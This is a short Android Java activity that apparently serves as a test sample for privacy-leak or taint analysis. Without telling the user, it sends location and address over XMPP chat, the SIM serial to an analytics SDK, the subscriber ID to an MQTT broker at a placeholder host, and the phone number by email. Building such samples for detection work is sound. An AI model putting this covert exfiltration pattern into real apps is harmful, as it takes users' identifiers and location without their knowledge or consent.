package org.example.flows.libs;

import android.app.Activity;
import android.os.Bundle;
import com.baidu.location.BDLocation;
import com.baidu.location.BDLocationListener;
import com.baidu.location.LocationClient;
import com.umeng.analytics.MobclickAgent;
import java.util.HashMap;
import java.util.Map;
import javax.mail.Session;
import javax.mail.Transport;
import javax.mail.internet.MimeMessage;
import org.eclipse.paho.client.mqttv3.MqttClient;
import org.eclipse.paho.client.mqttv3.MqttMessage;
import org.example.flows.Device;
import org.jivesoftware.smack.Chat;

/** Other ways out: chat, mail, a message broker, counting of events. */
public class Messaging extends Activity implements BDLocationListener {
    private static Chat chat = new Chat();

    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        LocationClient client = new LocationClient(this);
        client.registerLocationListener(this);
        client.start();
    }

    @Override
    public void onReceiveLocation(BDLocation place) {
        StringBuffer told = new StringBuffer(256);
        told.append("\nlatitude : ");
        told.append(place.getLatitude());
        told.append("\naddr : ");
        told.append(place.getAddrStr());
        chat.sendMessage(told.toString());
    }

    @Override
    protected void onStart() {
        super.onStart();
        Map<String, String> event = new HashMap<String, String>();
        event.put("serial", Device.phone(this).getSimSerialNumber());
        MobclickAgent.onEvent(this, "start", event);
    }

    @Override
    protected void onResume() {
        super.onResume();
        try {
            MqttClient broker = new MqttClient("tcp://collect.example:1883", "client");
            broker.publish("up", new MqttMessage(Device.phone(this).getSubscriberId().getBytes()));
        } catch (Exception problem) {
            finish();
        }
    }

    @Override
    protected void onStop() {
        super.onStop();
        try {
            MimeMessage mail = new MimeMessage(Session.getInstance(null));
            mail.setSubject("report");
            mail.setText(Device.phone(this).getLine1Number());
            Transport.send(mail);
        } catch (Exception problem) {
            finish();
        }
    }
}
